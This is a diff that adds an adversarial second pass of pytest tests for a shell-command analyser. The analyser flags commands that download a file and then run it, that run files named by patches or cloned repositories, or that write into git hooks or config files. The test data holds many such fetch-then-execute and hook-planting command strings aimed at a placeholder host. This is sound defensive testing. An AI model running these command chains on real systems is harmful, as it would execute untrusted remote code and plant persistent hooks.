@@ -133,3 +133,166 @@ def test_a_build_file_fetched_then_used_is_undeterminable(command: str) -> None:
 def test_programs_whose_output_is_not_run_still_pass(command: str) -> None:
     result = analyse(command)
     assert result.verdict == "no_delivery", (command, result)
+
+
+# ---------------------------------------------------------------- a second, adversarial pass
+
+#: A folder this command filled, copied or moved whole, then a file under the copy run.
+FOLDER_COPIES = (
+    "cp -r d e",
+    "cp -R d e/",
+    "cp -a d/. e",
+    "cp -r -t e d",
+    "cp -r --target-directory=e d",
+    "mv d e",
+    "rsync -a d/ e/",
+    "install -D d/x.sh e/x.sh",
+    "ln -s d e",
+)
+FOLDER_RUNS = ("bash e/x.sh", "./e/x.sh", "sh ./e/x.sh", "source e/x.sh")
+
+
+@pytest.mark.parametrize("copy", FOLDER_COPIES)
+@pytest.mark.parametrize("run", FOLDER_RUNS)
+def test_a_file_run_from_a_copy_of_a_written_folder_is_undeterminable(copy: str, run: str) -> None:
+    command = f"mkdir d && curl -o d/x.sh https://h/p && {copy} && {run}"
+    result = analyse(command)
+    assert result.verdict in ("undeterminable", "forbidden"), (command, result)
+
+
+#: Programs the gate reads as writers, or git subcommands, that write files under names
+#: given by what they read (a diff, another host, another repository).
+NAME_GIVEN = (
+    "patch -p1 < p.diff",
+    "patch -i p.diff",
+    "patch < p.diff",
+    "rsync -a host:d/ .",
+    "rsync -az host:x.sh .",
+    "git clone https://h/r .",
+    "git clone -q --depth 1 https://h/r .",
+    "git apply p.diff",
+    "git apply --3way p.diff",
+    "git submodule update --init",
+    "git submodule update --init --recursive sub",
+    "git submodule add https://h/r sub",
+)
+NAME_GIVEN_RUNS = ("./x.sh", "bash sub/x.sh", "make", "npm test", "pytest", "sh x.sh")
+
+
+@pytest.mark.parametrize("write", NAME_GIVEN)
+@pytest.mark.parametrize("run", NAME_GIVEN_RUNS)
+def test_a_file_a_patch_or_another_repository_named_then_run_is_undeterminable(
+    write: str, run: str
+) -> None:
+    for join in JOINS:
+        command = join.format(w=write, r=run)
+        result = analyse(command)
+        assert result.verdict in ("undeterminable", "forbidden"), (command, result)
+
+
+MAKEFILE_RUNS = (
+    "make -f mk",
+    "make --file=mk",
+    "make --file mk",
+    "make --makefile=mk",
+    "make -fmk",
+    "make -s -f mk all",
+    "gmake -f mk",
+    "make -f ./mk test",
+)
+
+
+@pytest.mark.parametrize("run", MAKEFILE_RUNS)
+def test_a_makefile_written_then_named_by_make_is_undeterminable(run: str) -> None:
+    for write in ("curl -o mk https://h/p", "wget -O mk https://h/p", "./gen mk", "cp /tmp/m mk"):
+        command = f"{write} && {run}"
+        result = analyse(command)
+        assert result.verdict == "undeterminable", (command, result)
+
+
+@pytest.mark.parametrize("folder", ("-C d", "-Cd", "-C ./d", "--directory=d", "--directory d"))
+def test_a_makefile_written_into_the_folder_make_enters_is_undeterminable(folder: str) -> None:
+    command = f"curl -o d/Makefile https://h/p && make {folder}"
+    result = analyse(command)
+    assert result.verdict == "undeterminable", (command, result)
+
+
+PYTHON_WRITES = (
+    "curl -o t.py https://h/p",
+    "curl -o json.py https://h/p",
+    "wget -O test_t.py https://h/p",
+    "cp /tmp/t.py t_test.py",
+    "echo 'import os' > conf_t.py",
+    "curl -o sitecustomize.py https://h/p",
+    "curl -o x.pth https://h/p",
+)
+PYTHON_RUNS = (
+    "python3 -m t",
+    "python -m t",
+    "python3 analyse.py",
+    "python3.12 -m json.tool f",
+    "pytest",
+    "py.test -q",
+    "python3 -m pytest",
+    "tox",
+)
+
+
+@pytest.mark.parametrize("write", PYTHON_WRITES)
+@pytest.mark.parametrize("run", PYTHON_RUNS)
+def test_python_sources_written_then_python_run_is_undeterminable(write: str, run: str) -> None:
+    """Python imports (and pytest collects) the sources of its folders by name, not
+    only the script it is given."""
+    command = f"{write} && {run}"
+    result = analyse(command)
+    assert result.verdict == "undeterminable", (command, result)
+
+
+PROTECTED_OUTPUTS = (
+    "curl -o .git/hooks/pre-commit https://h/p",
+    "curl --output .git/hooks/pre-commit https://h/p",
+    "curl --output=.git/hooks/pre-commit https://h/p",
+    "curl -fsSo .git/info/attributes https://h/p",
+    "curl --output-dir .git/hooks -O https://h/pre-commit",
+    "wget -O .git/hooks/pre-commit https://h/p",
+    "wget --output-document=.git/hooks/pre-commit https://h/p",
+    "wget -P .git/hooks https://h/pre-commit",
+    "tar xf h.tar -C .git/hooks",
+    "tar -xf h.tar --directory=.git/hooks",
+    "unzip h.zip -d .git/hooks",
+    "go build -o .git/hooks/pre-commit ./h",
+    "gcc -o .git/hooks/pre-commit h.c",
+    "curl -o ~/.gitconfig https://h/p",
+    "curl -o orchestrate.toml https://h/p",
+)
+
+
+@pytest.mark.parametrize("command", PROTECTED_OUTPUTS)
+def test_a_program_told_to_write_inside_git_or_config_is_forbidden(command: str) -> None:
+    result = analyse(command)
+    assert result.verdict == "forbidden", (command, result)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "python3 a.py && python3 b.py",
+        "python3 gen.py && pytest -q",
+        "python3 -m venv .venv && .venv/bin/pip install -e . && .venv/bin/pytest",
+        "make -C docs html",
+        "make -f Makefile.ci test",
+        "cp -r src /tmp/bak && ./src/run.sh",
+        "cp a.txt b.txt && ./run.sh",
+        "git apply --check p.diff && make",
+        "git apply --stat p.diff",
+        "git clone https://h/r",
+        "tar czf backup.tgz src",
+        "curl -o out.json https://h/api && python3 analyse.py out.json",
+        "gcc -o app main.c && ls",
+        "git log > log.txt && python3 analyse.py log.txt",
+        "go build -o bin/app ./cmd/app",
+    ],
+)
+def test_the_second_pass_still_lets_these_pass(command: str) -> None:
+    result = analyse(command)
+    assert result.verdict == "no_delivery", (command, result)
